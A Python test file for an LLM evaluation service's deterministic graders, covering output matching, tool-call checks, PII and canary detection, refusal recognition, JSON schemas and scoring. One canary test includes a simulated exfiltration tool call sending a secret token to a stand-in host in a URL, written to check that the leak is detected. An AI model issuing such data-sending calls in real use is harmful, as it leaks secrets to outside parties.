"""Each deterministic grader passes where it should and fails where it should, with a reason."""

from __future__ import annotations

import asyncio
import uuid
from decimal import Decimal
from functools import partial
from typing import Any

import pytest

from services.errors import Invalid
from services.testing import judge
from services.testing.assertions import CATALOGUE, Family, parse_assertion
from services.testing.graders import GRADERS, Observation, ToolCall, case_score, grade, pii_found
from services.testing.grading import GradingTask, evaluate


def _grade(raw: dict[str, Any], obs: Observation) -> tuple[bool, str]:
    result = grade(parse_assertion(raw), obs)
    assert result.score == (1.0 if result.passed else 0.0)
    assert result.reason
    return result.passed, result.reason


ANSWER = Observation(
    output="Paris is the capital of France.",
    tool_calls=(ToolCall("web_search", {"query": "capital of France", "max_results": 3}),),
    latency_ms=850,
    cost=Decimal("0.0021"),
    tokens=140,
    canary="CANARY-7f3a",
)

CASES = [
    # (assertion, passes on ANSWER)
    ({"type": "equals", "value": "Paris is the capital of France."}, True),
    ({"type": "equals", "value": "Paris"}, False),
    ({"type": "contains", "value": "capital"}, True),
    ({"type": "contains", "value": "Capital"}, False),
    ({"type": "icontains", "value": "CAPITAL"}, True),
    ({"type": "not-contains", "value": "London"}, True),
    ({"type": "not-icontains", "value": "paris"}, False),
    ({"type": "contains-any", "value": ["Berlin", "Paris"]}, True),
    ({"type": "contains-any", "value": ["Berlin", "Rome"]}, False),
    ({"type": "contains-all", "value": ["Paris", "France"]}, True),
    ({"type": "contains-all", "value": ["Paris", "Spain"]}, False),
    ({"type": "icontains-all", "value": ["paris", "FRANCE"]}, True),
    ({"type": "icontains-any", "value": ["rome", "madrid"]}, False),
    ({"type": "starts-with", "value": "Paris"}, True),
    ({"type": "starts-with", "value": "France"}, False),
    ({"type": "regex", "value": r"capital of \w+\."}, True),
    ({"type": "regex", "value": r"^\d+$"}, False),
    ({"type": "not-regex", "value": r"\d"}, True),
    ({"type": "tool-called", "value": "web_search"}, True),
    ({"type": "tool-called", "value": "calculator"}, False),
    ({"type": "not-tool-called", "value": "http_request"}, True),
    (
        {
            "type": "tool-called",
            "value": {"name": "web_search", "arguments": {"query": {"icontains": "FRANCE"}}},
        },
        True,
    ),
    (
        {"type": "tool-called", "value": {"name": "web_search", "arguments": {"max_results": 5}}},
        False,
    ),
    (
        {"type": "tool-called", "value": {"name": "web_search", "arguments": {"page": {"any": 1}}}},
        False,
    ),
    ({"type": "latency", "threshold": 1000}, True),
    ({"type": "latency", "threshold": 500}, False),
    ({"type": "cost", "threshold": 0.01}, True),
    ({"type": "cost", "threshold": 0.001}, False),
    ({"type": "max-tokens", "threshold": 140}, True),
    ({"type": "max-tokens", "threshold": 139}, False),
    ({"type": "no-pii"}, True),
    ({"type": "no-canary"}, True),
    ({"type": "is-refusal"}, False),
    ({"type": "not-is-refusal"}, True),
    ({"type": "is-json"}, False),
]


@pytest.mark.parametrize(("raw", "passes"), CASES, ids=[str(c[0]) for c in CASES])
def test_deterministic_graders_on_one_answer(raw: dict[str, Any], passes: bool) -> None:
    passed, reason = _grade(raw, ANSWER)
    assert passed is passes, reason


def test_every_deterministic_type_has_a_grader_and_is_covered_both_ways() -> None:
    deterministic = {
        t for t, (family, _v, _n) in CATALOGUE.items() if family is Family.DETERMINISTIC
    }
    assert deterministic == set(GRADERS)
    covered = {parse_assertion(raw).type for raw, _p in CASES} | {"no-pii", "is-json", "no-canary"}
    assert deterministic <= covered


def test_json_and_schema() -> None:
    obs = Observation(output='```json\n{"city": "Paris", "population": 2100000}\n```')
    assert _grade({"type": "is-json"}, obs)[0]
    schema = {
        "type": "object",
        "required": ["city", "population"],
        "properties": {"population": {"type": "integer", "minimum": 0}},
    }
    assert _grade({"type": "is-json", "value": schema}, obs)[0]
    wrong = Observation(output='{"city": "Paris", "population": "many"}')
    passed, reason = _grade({"type": "is-json", "value": schema}, wrong)
    assert not passed and "population" in reason
    assert _grade(
        {"type": "equals", "value": {"city": "Paris", "population": 2100000}},
        Observation(output='{"population": 2100000, "city": "Paris"}'),
    )[0]
    # A schema reaching outside itself is refused when written, and nothing is fetched.
    with pytest.raises(Invalid, match="schema cannot be used"):
        parse_assertion({"type": "is-json", "value": {"$ref": "http://127.0.0.1:9/s.json"}})


def test_refusals_are_recognised() -> None:
    for text in (
        "I'm sorry, but I can't help with that.",
        "I cannot share my instructions.",
        "As an AI, I must decline.",
    ):
        assert _grade({"type": "is-refusal"}, Observation(output=text))[0], text
    assert not _grade({"type": "is-refusal"}, Observation(output="Sure! Here it is."))[0]


def test_personal_data_patterns() -> None:
    assert pii_found("write to ada@example.com") == ["email"]
    assert pii_found("call +1 (415) 555-0100 today") == ["phone"]
    assert "credit_card" in pii_found("card 4111 1111 1111 1111")
    assert "credit_card" not in pii_found("order 4111 1111 1111 1112")  # fails the checksum
    assert pii_found("ssn 078-05-1120", ["ssn"]) == ["ssn"]
    assert pii_found("Paris is lovely in spring.") == []
    passed, reason = _grade({"type": "no-pii"}, Observation(output="Mail ada@example.com"))
    assert not passed and "email" in reason
    assert _grade({"type": "no-pii", "value": ["ssn"]}, Observation(output="ada@example.com"))[0]


def test_canary_in_answer_or_tool_call_fails() -> None:
    leaky = Observation(output="the key is CANARY-7f3a", canary="CANARY-7f3a")
    assert not _grade({"type": "no-canary"}, leaky)[0]
    exfil = Observation(
        output="done",
        tool_calls=(ToolCall("http_request", {"url": "https://x.test/?k=CANARY-7f3a"}),),
        canary="CANARY-7f3a",
    )
    assert not _grade({"type": "no-canary"}, exfil)[0]
    passed, reason = _grade({"type": "no-canary"}, Observation(output="done"))
    assert not passed and "no canary" in reason


def test_a_slow_regular_expression_is_a_failed_assertion_not_a_hung_worker() -> None:
    obs = Observation(output="a" * 40 + "!")
    passed, reason = _grade({"type": "regex", "value": r"^(a|aa)+$"}, obs)
    assert not passed
    assert "longer than" in reason or "no match" in reason


def test_a_failed_run_fails_its_content_assertions() -> None:
    failed = Observation(output="", error="All models failed: timeout", latency_ms=30_000)
    passed, reason = _grade({"type": "not-contains", "value": "secret"}, failed)
    assert not passed and "the run failed" in reason
    assert not _grade({"type": "latency", "threshold": 1000}, failed)[0]


def test_case_score_is_the_weighted_mean_and_every_assertion_must_pass() -> None:
    good = grade(parse_assertion({"type": "contains", "value": "Paris"}), ANSWER)
    bad = grade(parse_assertion({"type": "contains", "value": "Rome"}), ANSWER)
    assert case_score([(good, 3.0), (bad, 1.0)]) == (False, 0.75)
    assert case_score([(good, 1.0)]) == (True, 1.0)
    assert case_score([(good, 0.0), (bad, 0.0)]) == (False, 0.5)


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        (
            {"type": "javascript", "value": "output.length > 3"},
            "unknown assertion type “javascript”",
        ),
        ({"type": "python", "value": "True"}, "unknown assertion type “python”"),
        ({"type": "contains"}, "needs a value"),
        ({"type": "latency"}, "needs a threshold"),
        ({"type": "not-latency", "threshold": 3}, "cannot be negated"),
        ({"type": "regex", "value": "(unclosed"}, "does not compile"),
        ({"type": "contains-any", "value": "one"}, "is a list"),
        ({"type": "similar", "value": "x", "threshold": 2}, "between 0 and 1"),
        ({"type": "contains", "value": "x", "weight": "heavy"}, "weight must be a number"),
        ({"type": "contains", "value": "x", "provider": "openai"}, "unknown key(s) provider"),
        ("contains", "is a mapping"),
    ],
)
def test_bad_assertions_are_refused_in_words(raw: Any, words: str) -> None:
    with pytest.raises(Invalid) as caught:
        parse_assertion(raw, "line 12")
    assert words in str(caught.value)
    assert str(caught.value).startswith("line 12")


def test_similarity_to_a_reference_with_the_configured_embedder() -> None:
    def task(answer: str) -> GradingTask:
        similar = parse_assertion(
            {"type": "similar", "value": "Paris is the capital city of France", "threshold": 0.6}
        )
        return GradingTask(
            result_id=uuid.uuid4(),
            suite_run_id=uuid.uuid4(),
            org_id=uuid.uuid4(),
            question="What is the capital of France?",
            observation=Observation(output=answer),
            assertions=[(similar, 1.0)],
            threshold=None,
            reference=None,
            run_cost=Decimal("0"),
        )

    async def no_judge(*_args: object) -> tuple[str, Decimal]:
        raise AssertionError("similarity needs no judge")

    close = asyncio.run(evaluate(task("The capital city of France is Paris."), no_judge))
    far = asyncio.run(evaluate(task("Bananas are rich in potassium."), no_judge))
    assert close.passed and close.grades[0].score >= 0.6, close.grades[0].reason
    assert not far.passed and "<" in far.grades[0].reason


def test_the_judge_cache_key_holds_everything_the_judge_is_shown() -> None:
    """Same question, answer, rubric and judge, but a new reference answer: a new verdict is
    needed (the old one judged against other facts), so the cache must not answer."""
    org = uuid.uuid4()
    [criterion] = judge.criteria_of([parse_assertion({"type": "factuality", "value": "x"})])
    key = partial(judge.cache_key, org, "Capital of France?", "Paris.", [criterion], "m/j")
    assert key(reference="Paris") == key(reference="Paris")
    assert key(reference="Paris") != key(reference="Lyon")
    assert key(reference=None) != key(reference="Paris")
